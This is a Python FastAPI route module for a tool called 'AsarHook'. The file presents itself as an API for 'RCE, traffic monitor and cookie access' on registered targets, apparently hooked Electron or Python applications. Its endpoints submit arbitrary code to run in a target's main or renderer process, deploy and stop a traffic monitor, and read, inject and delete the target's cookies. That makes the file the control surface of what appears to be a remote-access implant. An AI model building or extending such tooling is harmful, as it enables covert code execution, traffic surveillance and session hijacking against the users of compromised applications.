"""
AsarHook Target API Routes

RCE, traffic monitor and cookie access for a registered target.

Endpoints:
- GET    /api/targets/{uuid}/info
- POST   /api/targets/{uuid}/console          - Submit code, returns jobId
- GET    /api/targets/{uuid}/result/{job_id}  - One-time result read
- POST   /api/targets/{uuid}/execute          - Submit and read back
- POST   /api/targets/{uuid}/monitor          - Deploy the traffic monitor
- POST   /api/targets/{uuid}/monitor/{action} - status | stop | clear
- GET    /api/targets/{uuid}/cookies
- POST   /api/targets/{uuid}/cookies
- DELETE /api/targets/{uuid}/cookies
"""

from typing import Any, Dict, Literal, Optional

from fastapi import APIRouter, Depends
from pydantic import BaseModel, Field

from api.dependencies import get_target_service
from services.target_service import TargetService

router = APIRouter(prefix="/api/targets", tags=["Targets"])

ProcessName = Literal["main", "renderer"]
Flavor = Literal["electron", "python"]


class CodeRequest(BaseModel):
    code: str = Field(..., min_length=1)
    process: ProcessName = "main"


class MonitorRequest(BaseModel):
    flavor: Flavor = "electron"
    port: Optional[int] = Field(default=None, ge=1, le=65535)


class MonitorControlRequest(BaseModel):
    flavor: Flavor = "electron"


class CookieRequest(BaseModel):
    cookie: Dict[str, Any]


class RemoveCookieRequest(BaseModel):
    url: str
    name: str


@router.get("/{uuid}/info")
async def target_info(uuid: str, service: TargetService = Depends(get_target_service)):
    return await service.info(uuid)


@router.post("/{uuid}/console")
async def submit_code(uuid: str, body: CodeRequest, service: TargetService = Depends(get_target_service)):
    return await service.send_payload(uuid, body.code, body.process)


@router.get("/{uuid}/result/{job_id}")
async def read_result(uuid: str, job_id: str, service: TargetService = Depends(get_target_service)):
    return await service.get_payload_status(uuid, job_id)


@router.post("/{uuid}/execute")
async def execute_code(uuid: str, body: CodeRequest, service: TargetService = Depends(get_target_service)):
    return await service.execute(uuid, body.code, body.process)


@router.post("/{uuid}/monitor")
async def deploy_monitor(uuid: str, body: MonitorRequest, service: TargetService = Depends(get_target_service)):
    return await service.deploy_monitor(uuid, body.flavor, body.port)


@router.post("/{uuid}/monitor/{action}")
async def control_monitor(
    uuid: str,
    action: Literal["status", "stop", "clear"],
    body: Optional[MonitorControlRequest] = None,
    service: TargetService = Depends(get_target_service),
):
    body = body or MonitorControlRequest()
    return await service.monitor_control(uuid, action, body.flavor)


@router.get("/{uuid}/cookies")
async def get_cookies(uuid: str, service: TargetService = Depends(get_target_service)):
    return await service.get_cookies(uuid)


@router.post("/{uuid}/cookies")
async def set_cookie(uuid: str, body: CookieRequest, service: TargetService = Depends(get_target_service)):
    return await service.set_cookie(uuid, body.cookie)


@router.delete("/{uuid}/cookies")
async def remove_cookie(uuid: str, body: RemoveCookieRequest, service: TargetService = Depends(get_target_service)):
    return await service.remove_cookie(uuid, body.url, body.name)
